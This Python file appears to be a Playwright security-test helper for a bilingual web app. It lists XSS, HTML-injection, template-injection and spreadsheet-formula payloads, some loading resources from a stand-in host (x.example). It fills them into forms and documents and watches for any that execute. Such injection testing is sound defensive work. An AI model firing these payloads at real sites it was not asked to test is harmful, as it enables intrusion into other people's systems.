"""What people with bad intent write into a text, and a watch that finds what came alive of it."""

from dataclasses import dataclass, field
from itertools import cycle

from playwright.sync_api import ConsoleMessage, Dialog, Page, expect
from playwright.sync_api import Error as BrowserError

PAYLOADS = (
    "<script>injected=1</script>",
    '"><script src=//x.example/a.js></script>',
    "'><img data-injected src=x onerror=injected=1>",
    "</title><script>injected=1</script>",
    "</textarea><i data-injected>x</i>",
    "</script><script>injected=1</script>",
    "--><svg data-injected onload=injected=1>",
    "javascript:injected=1//",
    '看<a data-injected href="javascript:injected=1">这里</a>',
    "<link data-injected rel=stylesheet href=//x.example/a.css>",
    '" onfocus=injected=1 autofocus data-injected="',
    "' style='position:fixed' data-injected='",
    '=HYPERLINK("//x.example","<i data-injected>")',
    "\u202e<b data-injected>\u2028",
    "&lt;i data-injected&gt;&#60;i data-injected&#62;",
    '<iframe data-injected srcdoc="<script>parent.injected=1</script>">',
    "<base data-injected href=//x.example/>",
    "<meta data-injected http-equiv=refresh content=0;url=//x.example>",
    "<form data-injected action=//x.example><input name=code>",
)
IN_BRACES = ("{{ 7*191 }}${7*191}<%= 7*191 %>", "%(x)s %s {0.__class__}<i data-injected>")
"""Not in questionnaires, whose sentences have places in braces."""
PRODUCT = str(7 * 191)

_LIVING = """() => [
  ...document.querySelectorAll('[data-injected]')].map((element) => element.outerHTML)
  .concat(typeof injected === 'undefined' ? [] : ['a script ran'])"""
_REPORTING = """addEventListener('securitypolicyviolation', (violation) =>
  told(`${violation.violatedDirective}: ${violation.blockedURI} ${violation.sample}`))"""
_FILLING = """(form, texts) => {
  form.noValidate = true;
  const closed = ['hidden', 'checkbox', 'radio', 'submit', 'file'];
  const open = [...form.querySelectorAll('input, textarea')]
    .filter((input) => !closed.includes(input.type) && !input.disabled);
  open.forEach((input, place) => {
    if (input.tagName === 'INPUT') input.type = 'text';
    input.removeAttribute('maxlength');
    input.value = texts[place % texts.length];
  });
  return open.length;
}"""


@dataclass
class Watch:
    """A window that tells whatever of a payload comes alive in it."""

    page: Page
    findings: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.expose_function("told", self._note)
        self.page.add_init_script(_REPORTING)
        self.page.on("dialog", self._dismiss)
        self.page.on("console", self._listen)

    def visit(self, address: str) -> bool:
        """Go to an address and look at the page; false if it is a file."""
        try:
            self.page.goto(address)
        except BrowserError as error:
            if "ERR_ABORTED" not in error.message and "Download" not in error.message:
                raise
            return False
        self.examine()
        return True

    def examine(self) -> None:
        """Look at the page as it stands when the long work that it follows has ended."""
        # At the end of that work the page loads itself again, under whoever is reading it.
        expect(self.page.locator("progress[data-progress]")).to_have_count(0, timeout=60_000)
        self.page.wait_for_load_state()
        self.findings += [f"{self.page.url}: {element}" for element in self.page.evaluate(_LIVING)]
        if PRODUCT in self.page.inner_text("body"):
            self.findings.append(f"{self.page.url}: computed")

    def _note(self, violation: str) -> None:
        self.findings.append(violation)

    def _listen(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.findings.append(message.text)

    def _dismiss(self, dialog: Dialog) -> None:
        self.findings.append(f"a dialog: {dialog.message}")
        dialog.dismiss()


def fill(page: Page, place: int) -> bool:
    """Write payloads into every text of a page's form; false if it has none."""
    texts = [*PAYLOADS, *IN_BRACES]
    turned = texts[place % len(texts) :] + texts[: place % len(texts)]
    return bool(page.locator("form").nth(place).evaluate(_FILLING, turned))


def written_into(content: object, texts: "cycle[str] | None" = None) -> object:
    """Write payloads into every sentence of a document that has them in two languages."""
    texts = texts or cycle(PAYLOADS)
    if isinstance(content, list):
        return [written_into(part, texts) for part in content]
    if isinstance(content, dict):
        if set(content) == {"zh", "en"}:
            return {language: f"{text} {next(texts)}" for language, text in content.items()}
        return {name: written_into(part, texts) for name, part in content.items()}
    return content
